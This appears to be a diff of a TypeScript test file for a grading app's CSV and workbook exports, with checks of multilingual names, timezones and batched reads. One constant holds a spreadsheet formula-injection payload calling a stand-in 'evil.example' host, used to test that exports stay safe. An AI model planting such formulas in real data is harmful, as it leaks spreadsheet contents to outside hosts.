@@ -1,16 +1,12 @@
-import { parse } from "csv-parse/sync";
-import { createTranslator } from "next-intl";
-import { beforeEach, describe, expect, it } from "vitest";
-import { responsesCsv, studentsCsv } from "@/lib/grading/export/csv";
-import { getResponsesExport, getStudentsExport } from "@/lib/grading/exports";
+import { beforeEach, describe, expect, it, vi } from "vitest";
+import { openTable } from "@/lib/exports/tables/open-table";
+import { getResponsesExport } from "@/lib/grading/exports";
 import { markResponse } from "@/lib/grading/mark-response";
 import { getReviewedAnswer } from "@/lib/grading/reviewed-answer";
-import * as messages from "@/messages/en";
 import { database } from "../../support/database";
+import { TEXT } from "../../support/factories";
+import { csvOfTable, xlsxOfTable } from "../../support/files";
 import { makeClass } from "./class";
-
-const t = createTranslator({ locale: "en", messages, namespace: "Exports" });
-const parsed = (csv: string): Record<string, string>[] => parse(csv, { bom: true, columns: true });
 
 const HOSTILE = '=HYPERLINK("http://evil.example?"&A1)';
 const ESSAY = 'He said "no".\nThen:\t@SUM(1), =1+1; 他不给面子 🕊️';
@@ -19,15 +15,17 @@ let lesson: Awaited<ReturnType<typeof makeClass>>;
 beforeEach(async () => {
   lesson = await makeClass({ dueAt: new Date(Date.now() - 3_600_000) });
 });
-const students = async () => studentsCsv(await getStudentsExport(lesson.teacher, lesson.assignmentId), t);
-const responses = async () => responsesCsv(await getResponsesExport(lesson.teacher, lesson.assignmentId), t);
+const table = (kind: "RESULTS" | "RESPONSES", zone = "Asia/Almaty") =>
+  openTable(lesson.teacher, { kind, ofId: lesson.assignmentId }, zone);
+const students = async () => csvOfTable(await table("RESULTS"));
+const responses = async () => csvOfTable(await table("RESPONSES"));
 
 describe("a row per student", () => {
   it("has points as numbers, blanks where nothing is known, and everybody", async () => {
     await lesson.finish(await lesson.join("Әсем Қанатқызы"), { choice: "b" });
     await lesson.finish(await lesson.join("张伟 🐼"), { choice: "a", essay: ESSAY });
     await lesson.join(HOSTILE);
-    const rows = parsed(await students());
+    const rows = await students();
     expect(rows.map((row) => Object.values(row).toSpliced(3, 1))).toEqual(
       expect.arrayContaining([
         ["Әсем Қанатқызы", "handed in late", "1", "yes", "", "2", "0", "0", "2", "8", "25", "0"],
@@ -49,7 +47,7 @@ describe("a row per response", () => {
     const { id, answer } = await database.response.findFirstOrThrow({ where });
     const passages = [...(answer as { passages: object[] }).passages, made];
     await database.response.update({ where: { id }, data: { answer: { ...(answer as object), passages } } });
-    const essay = parsed(await responses()).find((row) => row["Cited passages"]);
+    const essay = (await responses()).find((row) => row["Cited passages"]);
     expect(essay?.["Cited passages"]).toBe("“It was also a refusal.”\n(one quotation is not in the text)");
     const place = { ...where, assignmentId: lesson.assignmentId };
     const { current } = await getReviewedAnswer(lesson.teacher, place);
@@ -62,7 +60,7 @@ describe("a row per response", () => {
       ...{ attemptId, itemVersionId: lesson.items.essay, levels: { claim: 1 }, baseScoreId: null },
       comment: "+1",
     });
-    const [choice, essay] = parsed(await responses());
+    const [choice, essay] = await responses();
     expect(choice).toMatchObject({
       Question: "1",
       Answer: "A no",
@@ -83,8 +81,57 @@ describe("a row per response", () => {
 
   it("has what was saved of an attempt in progress, without points", async () => {
     await lesson.begin(await lesson.join(), { choice: "b" });
-    expect(parsed(await responses())).toMatchObject([
-      { Answer: "A no", Points: "", "Handed in": "", Late: "" },
-    ]);
+    expect(await responses()).toMatchObject([{ Answer: "A no", Points: "", "Handed in": "", Late: "" }]);
+  });
+});
+
+describe("the same as a workbook", () => {
+  it("has numbers as numbers, times on the clock of the teacher, and every name as it is typed", async () => {
+    await lesson.finish(await lesson.join("Әсем Қанатқызы"), { choice: "b" });
+    await lesson.finish(await lesson.join("张伟 🐼"), { choice: "a", essay: ESSAY });
+    await lesson.join(HOSTILE);
+    const rows = await xlsxOfTable(await table("RESULTS"));
+    expect(rows.map((row) => [row.Student, row.Total, row.Percent, row["Answers to mark"]])).toEqual(
+      expect.arrayContaining([
+        ["Әсем Қанатқызы", 2, 25, 0],
+        ["张伟 🐼", 0, null, 1],
+        [HOSTILE, null, null, null],
+      ]),
+    );
+    const { handedInAt } = await database.attempt.findFirstOrThrow({ where: { user: { name: "张伟 🐼" } } });
+    const there = rows.find((row) => row.Student === "张伟 🐼")?.["Handed in (Asia/Almaty)"] as Date;
+    // Five hours before Greenwich; a workbook knows half a second at best.
+    expect(Math.abs(there.getTime() - (handedInAt?.getTime() ?? 0) - 5 * 3_600_000)).toBeLessThan(1500);
+  });
+
+  it("has what students wrote letter by letter", async () => {
+    await lesson.finish(await lesson.join(), { choice: "b", essay: ESSAY });
+    const [, essay] = await xlsxOfTable(await table("RESPONSES"));
+    expect(essay).toMatchObject({
+      Answer: ESSAY,
+      "Cited passages": "“It was also a refusal.”",
+      Points: null,
+    });
+  });
+});
+
+describe("a class that is too large to be held in memory", () => {
+  it("is read a few attempts at a time, and written in the order of the names", async () => {
+    for (let number = 1; number <= 60; number += 1)
+      await lesson.begin(await lesson.join(`Student ${number}`), { choice: "b", quote: TEXT.b2 });
+    const { total, batches } = await getResponsesExport(lesson.teacher, lesson.assignmentId);
+    expect(total).toBe(120);
+    const sizes: number[] = [];
+    const names: string[] = [];
+    const read = vi.spyOn(database.response, "findMany");
+    for await (const rows of batches) {
+      sizes.push(rows.length);
+      names.push(...rows.map(({ name }) => name));
+      // Not a batch before it is asked for.
+      expect(read).toHaveBeenCalledTimes(sizes.length);
+    }
+    read.mockRestore();
+    expect(sizes).toEqual([50, 50, 20]);
+    expect([...new Set(names)]).toEqual(Array.from({ length: 60 }, (_, at) => `Student ${at + 1}`));
   });
 });
